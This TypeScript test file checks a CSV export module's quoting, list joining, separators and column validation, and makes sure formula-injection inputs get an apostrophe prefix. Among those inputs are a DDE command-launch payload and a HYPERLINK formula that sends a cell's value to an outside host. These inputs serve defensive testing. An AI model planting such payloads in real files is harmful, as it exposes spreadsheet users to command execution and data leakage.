import { describe, expect, it } from 'vitest';
import { type CsvLook, chooseColumns, csvLines } from '../../../../src/http/formats/csv.js';
import type { ApiError } from '../../../../src/lib/errors.js';
import { parseCsv } from '../../../support/csv.js';
import { effort } from '../../../support/effort.js';
import { seeded } from '../../../support/random.js';

const columns = ['id', 'text'].map((name) => ({ name, value: (view: Record<string, string>) => view[name] }));
const [, text] = columns;
const csvText = (...asked: Parameters<typeof csvLines>) => csvLines(...asked).join('');
const cell = (value: string | number | boolean | null | undefined) =>
  parseCsv(csvText([{ name: 'it', value: () => value }], [{}, {}], false))[0]![0];

describe('csvLines', () => {
  it('is a row of names, if asked for, and a row for each object', () => {
    const views = [{ id: '1', text: 'one' }, { id: '2' }];
    expect(csvText(columns, views, true)).toBe('id,text\n1,one\n2,\n');
    expect(csvText(columns, views, false)).toBe('1,one\n2,\n');
    expect(csvText(columns, [], true)).toBe('id,text\n');
    expect(csvText(columns, [], false)).toBe('');
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    '+1',
    '+1+1',
    '-1+1',
    '-',
    '--5',
    '-5 fighters',
    '-1e3',
    '-.5',
    '-5.',
    "-2+cmd|' /C calc'!A0",
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('%j gets an apostrophe, since a spreadsheet could run it', (value) => {
    expect(cell(value)).toBe(`'${value}`);
  });

  it.each([
    ...['-5', '-0.25', '0', '12', '-9007199254740993', 'a=1', "'=1", '1+1', 'a@b', ' =1', '5-3'],
    ...['one, two', 'say "no"', '"', '""', '","', 'first\nsecond', 'first\r\nsecond', 'first\rsecond'],
    ...['ends in a break\n', 'ends in a break\r\n', '\u2028 line \u2029 separators', ' spaces around '],
    ...['نور ولی محسود، "TTP"', '💥,💥', '\ufeffmark', ';', 'tab\there', ''],
  ])('%j comes back as it was', (value) => {
    expect(cell(value)).toBe(value);
  });

  it.each([
    [null, ''],
    [undefined, ''],
    [true, 'true'],
    [false, 'false'],
    [0, '0'],
    [-1.5, '-1.5'],
  ])('%j is written %j', (value, written) => {
    expect(cell(value)).toBe(written);
  });

  it.each([
    [[], '', '[]'],
    [['one'], 'one', '["one"]'],
    [['one', 'two'], 'one; two', '["one","two"]'],
    [['S; J', 'SJC'], 'S\\; J; SJC', '["S; J","SJC"]'],
    [['a;', 'b'], 'a\\;; b', '["a;","b"]'],
    [['a\\', 'b'], 'a\\\\; b', '["a\\\\","b"]'],
    [['a\\; b'], 'a\\\\\\; b', '["a\\\\; b"]'],
    [['=cmd', 'b'], "'=cmd; b", '["=cmd","b"]'],
    [['-5'], '-5', '["-5"]'],
  ])('a list %j is one cell that can be taken apart', (list, plain, json) => {
    const columns = [{ name: 'it', value: () => list }];
    const written = (look: CsvLook) => parseCsv(csvText(columns, [{}, {}], false, undefined, look))[0]![0];
    expect(written({})).toBe(plain);
    expect(written({ lists: 'json' })).toBe(json);
    const text = plain.replace(/^'/, '');
    const items = text.match(/(?:\\.|[^\\;])+(?=; |$)/g) ?? [];
    expect(items.map((item) => item.replace(/^ /, '').replace(/\\(.)/g, '$1'))).toEqual(list);
  });

  it.each([
    ['comma', ','],
    ['semicolon', ';'],
    ['tab', '\t'],
  ] as const)('cells stand apart by a %s, which is quoted inside of one', (separator, between) => {
    const views = [{ id: 'a,b;c\td', text: '=1' }];
    const written = csvText(columns, views, true, undefined, { separator });
    expect(written).toBe(`id${between}text\n"a,b;c\td"${between}'=1\n`);
    expect(parseCsv(written, between)[1]).toEqual(['a,b;c\td', "'=1"]);
  });

  it('begins with one byte order mark where asked for', () => {
    const look = { bom: true };
    expect(csvText(columns, [], true, undefined, look)).toBe('\ufeffid,text\n');
    expect(csvText(columns, [{ id: '1', text: '' }], false, undefined, look)).toBe('1,\n');
  });

  it('random texts come back, each in its row (seed 11)', () => {
    const random = seeded(11);
    const parts = ['a', '"', ',', '\n', '\r', '\r\n', ' ', '""', ',,', 'é', '💥', "'", ';', '\t'];
    const texts = Array.from(
      { length: effort(200, 5_000) },
      () => `x${Array.from({ length: random.below(9) }, () => random.pick(parts)).join('')}`,
    );
    const written = csvText(
      [text!],
      texts.map((one) => ({ text: one })),
      true,
    );
    expect(parseCsv(written)).toEqual([['text'], ...texts.map((one) => [one])]);
  });
});

describe('chooseColumns', () => {
  const names = (fields?: string) => chooseColumns(columns, fields).map(({ name }) => name);

  it('are all of them unless told, else those asked for in that order', () => {
    expect(names()).toEqual(['id', 'text']);
    expect(names('text,id')).toEqual(['text', 'id']);
    expect(names('text')).toEqual(['text']);
  });

  it.each(['secret', 'id,nope', 'id,,text', 'constructor', 'ID', 'id '])(
    'refuses %j and says what there is',
    (fields) => {
      const refusal = (() => {
        try {
          return names(fields);
        } catch (error) {
          return error as ApiError;
        }
      })();
      expect(refusal).toMatchObject({ faults: [{ parameter: 'fields', code: 'unknown_column' }] });
      expect((refusal as ApiError).message).toContain('there are id, text');
    },
  );
});

describe('parseCsv, with which these tests read', () => {
  it('refuses what is no CSV', () => {
    expect(parseCsv('a,"b ""c"", d",\r\n"","\n"\n')).toEqual([
      ['a', 'b "c", d', ''],
      ['', '\n'],
    ]);
    for (const broken of ['a"b', '"a"b,c', '"a']) expect(() => parseCsv(broken)).toThrow('stray character');
  });
});
